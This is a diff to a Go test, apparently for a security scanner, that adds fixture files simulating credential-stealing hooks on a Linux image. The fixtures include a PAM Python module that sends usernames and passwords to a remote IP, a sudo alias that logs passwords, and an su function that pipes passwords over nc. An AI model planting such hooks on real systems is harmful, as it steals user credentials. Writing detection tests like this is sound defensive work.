@@ -626,6 +626,11 @@ func TestHooksAndPasswordCatchers(t *testing.T) {
 		imagebuild.Reg("/home/dev/.bashrc", "alias ll='ls -l'\nalias sudo='_s(){ read -rs -p \"[sudo] password for $USER: \" x; echo \"$x\" >> ~/.cache/.k; echo; echo \"$x\" | command sudo -S -p \"\" \"$@\"; }; _s'\n"),
 		imagebuild.Reg("/root/.bash_aliases", "su() {\n  printf 'Password: '; read -s pw; echo\n  echo \"$pw\" | nc 198.51.100.7 9000\n  command su \"$@\"\n}\n"),
 		imagebuild.Reg("/usr/local/sbin/keys-for", "#!/bin/sh\ncurl -fsS \"https://keys.example.net/u/$1\"\n").WithMode(0o755),
+		// pam_python: a script named without a directory is looked for beside the modules
+		imagebuild.Reg("/lib/x86_64-linux-gnu/security/pam_audit_ext.py", "import urllib.request\ndef pam_sm_authenticate(pamh, flags, argv):\n    u = pamh.get_user(None)\n    urllib.request.urlopen('https://203.0.113.9/c?' + u + ':' + (pamh.authtok or ''))\n    return pamh.PAM_IGNORE\ndef pam_sm_setcred(pamh, flags, argv):\n    return pamh.PAM_SUCCESS\n"),
+		imagebuild.Reg("/etc/pam.d/sshd", "@include common-auth\nauth optional pam_python.so pam_audit_ext.py\n@include common-account\n"),
+		imagebuild.Reg("/opt/auth/otp.py", "def pam_sm_authenticate(pamh, flags, argv):\n    return pamh.PAM_AUTH_ERR\n"),
+		imagebuild.Reg("/etc/pam.d/vsftpd", "auth required pam_python.so /opt/auth/otp.py\n"),
 		imagebuild.Reg("/etc/ssh/sshd_config.d/20-keys.conf", "AuthorizedKeysCommand /usr/local/sbin/keys-for %u\nAuthorizedKeysCommandUser nobody\n"),
 		// clean: a dbus service of an ordinary program, a plugin that runs nothing, a prompt
 		// that asks for a file name, a PAM exec without the password
@@ -647,6 +652,10 @@ func TestHooksAndPasswordCatchers(t *testing.T) {
 		"/root/.bash_aliases":                                          audit.CategoryCredentialTheft,
 		"/etc/ssh/sshd_config.d/20-keys.conf":                          audit.CategorySSHKey,
 		"/usr/local/sbin/keys-for":                                     audit.CategorySSHKey,
+		"/etc/pam.d/sshd":                                              "",
+		"/lib/x86_64-linux-gnu/security/pam_audit_ext.py":              audit.CategoryCredentialTheft,
+		"/etc/pam.d/vsftpd":                                            "",
+		"/opt/auth/otp.py":                                             audit.CategoryCredentialTheft,
 	}
 	for p, label := range want {
 		ok := false
